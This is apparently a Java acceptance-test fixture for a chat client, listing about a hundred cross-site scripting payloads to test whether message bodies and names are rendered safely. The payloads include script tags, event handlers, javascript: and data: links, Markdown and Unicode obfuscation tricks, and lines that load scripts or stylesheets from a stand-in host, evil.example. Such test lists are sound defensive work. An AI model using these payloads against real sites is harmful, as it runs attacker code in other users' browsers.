package chat.chatto.acceptance;

import java.util.List;

/**
 * What people may write who want others' browsers to run something. Written in the manner of the public collections: each attack that
 * works anywhere sets {@code window.ran} or opens a dialog.
 */
final class HostileTexts {

    /** Code of a language that is known, and so is coloured. */
    static final String CODE =
            "```html\n<img src=x onerror=alert(1)><script>window.ran=1</script>\n```";

    /** For the text of a message, a description, a draft. */
    static final List<String> BODIES =
            List.of(
                    // Elements and their handlers, closed, unclosed, in odd letters and with odd
                    // separators.
                    "<script>window.ran=1</script>",
                    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
                    "<scr<script>ipt>window.ran=1</scr</script>ipt>",
                    "<script\u0000>window.ran=1</script>",
                    "<img src=x onerror=window.ran=1>",
                    "<img src=x onerror=\"alert(1)\"//",
                    "<IMG \"\"\"><SCRIPT>alert('ran')</SCRIPT>\">",
                    "<img/src=`x`onerror=alert(1)>",
                    "<img src=x:alert(1) onerror=eval(src)>",
                    "<svg/onload=window.ran=1>",
                    "<svg><script>window.ran=1</script></svg>",
                    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a>",
                    "<math><mtext></p><style><img src=x onerror=alert(1)></style>",
                    "<math href=\"javascript:alert(1)\">x</math>",
                    "<body onload=alert(1)>",
                    "<input autofocus onfocus=alert(1)>",
                    "<select autofocus onfocus=alert(1)>",
                    "<details open ontoggle=alert(1)>x</details>",
                    "<video><source onerror=alert(1)></video>",
                    "<audio src=x onerror=alert(1)>",
                    "<marquee onstart=alert(1)>x</marquee>",
                    "<div onpointerover=alert(1)>point here</div>",
                    "<x contenteditable onblur=alert(1)>leave me</x>",
                    "<iframe src=javascript:alert(1)></iframe>",
                    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
                    "<object data=javascript:alert(1)></object>",
                    "<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
                    "<base href=\"javascript:/\"><a href=\"\">x</a>",
                    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
                    "<link rel=stylesheet href=https://evil.example/x.css>",
                    "<style>@import'https://evil.example/x.css';*{display:none}</style>",
                    "<form action=javascript:alert(1)><button>x</button></form>",
                    "<button form=f formaction=javascript:alert(1)>x</button>",
                    "<template><script>window.ran=1</script></template>",
                    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                    "<textarea></textarea><script>alert(1)</script>",
                    "<!--><img src=x onerror=alert(1)>-->",
                    "<![CDATA[<img src=x onerror=alert(1)>]]>",
                    "<?xml version=\"1.0\"?><script>alert(1)</script>",
                    // Closing what the page itself may have opened.
                    "\"><script>window.ran=1</script>",
                    "'><img src=x onerror=alert(1)>",
                    "</div></article><script>window.ran=1</script>",
                    "</textarea><svg onload=alert(1)>",
                    // Markdown's links.
                    "[x](javascript:alert(1))",
                    "[x](JaVaScRiPt:alert(1))",
                    "[x](javascript&colon;alert(1))",
                    "[x](&#106;&#97;vascript:alert(1))",
                    "[x](java\tscript:alert(1))",
                    "[x](<java\u0001script:alert(1)>)",
                    "[x](vbscript:msgbox(1))",
                    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
                    "[x](blob:https://evil.example/1)",
                    "[x](//evil.example/x)",
                    "[x](\\\\evil.example/x)",
                    "[x](/\\evil.example/x)",
                    "[x](/api/v1/auth/logout)",
                    "[x](https://evil.example/\"onmouseover=\"alert(1))",
                    "[x](https://evil.example 'a\" onmouseover=alert(1) b=\"')",
                    "[<img src=x onerror=alert(1)>](https://evil.example)",
                    "[x][a]\n\n[a]: javascript:alert(1)",
                    "<javascript:alert(1)>",
                    "<https://evil.example/\"onclick=alert(1)>",
                    "![x](https://evil.example/track.png)",
                    "![x](javascript:alert(1))",
                    "![x\"onerror=\"alert(1)](x)",
                    // Autolinks.
                    "https://evil.example/'onmouseover='alert(1)",
                    "https://evil.example/<script>alert(1)</script>",
                    "javascript:alert(1)//https://evil.example",
                    "https://user:pass@evil.example/`onclick=alert(1)`",
                    // Code, its language, and tables.
                    "```\"><img/src=x/onerror=alert(1)>\ncode\n```",
                    "```js onmouseover=alert(1)\n</code></pre><script>window.ran=1</script>\n```",
                    CODE,
                    "`</code><img src=x onerror=alert(1)>`",
                    """
                    |<img src=x onerror=alert(1)>|b|
                    |:-:|-|
                    |<svg/onload=alert(1)>|"onclick=alert(1)|\
                    """,
                    // Emphasis that crosses, and what this client adds to Markdown.
                    "**<b *onclick=alert(1)>_~~x**_</b>~~",
                    "||<img src=x onerror=alert(1)>||",
                    "||[x](javascript:alert(1))|| ||**a|| b**",
                    "<t:1700000000:\"onclick=alert(1)>",
                    "<t:1700000000:F onclick=alert(1)>",
                    "@<img src=x onerror=alert(1)> @all\"onclick=alert(1)",
                    ":<img/src=x/onerror=alert(1)>: :\"onerror=alert(1):",
                    "<span class=spoiler role=button onclick=alert(1)>x</span>",
                    "<button class=copy onclick=alert(1)>x</button>",
                    // Entities, templates, and letters that are not what they look like.
                    "&lt;script&gt;window.ran=1&lt;/script&gt;",
                    "&#60;img src=x onerror=alert(1)&#62;",
                    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
                    "\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e",
                    "{{constructor.constructor('window.ran=1')()}}",
                    "${window.ran=1} {@html '<img src=x onerror=alert(1)>'}",
                    "\uFF1Cscript\uFF1Ewindow.ran=1\uFF1C/script\uFF1E",
                    "<\u200Bscript>window.ran=1</script>",
                    "\u202E<script>window.ran=1</script>",
                    "javascript\uFF1Aalert(1)",
                    "\uFEFF<img src=x onerror=alert(1)>",
                    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>");

    /** Short enough for the name of a person or of a room. */
    static final List<String> NAMES =
            List.of(
                    "<img src=x onerror=alert(1)>",
                    "\"><svg/onload=window.ran=1>",
                    "<script>window.ran=1</script>",
                    "'onmouseover='window.ran=1",
                    "</title><script>alert(1)//",
                    "[x](javascript:alert(1))",
                    "<b onclick=alert(1)>b</b>",
                    "{{alert(1)}}${alert(1)}",
                    "&lt;img onerror=alert(1)&gt;",
                    "<iframe/src=javascript:ran=1>",
                    "||x|| **b** @all :tada:");

    private HostileTexts() {}
}
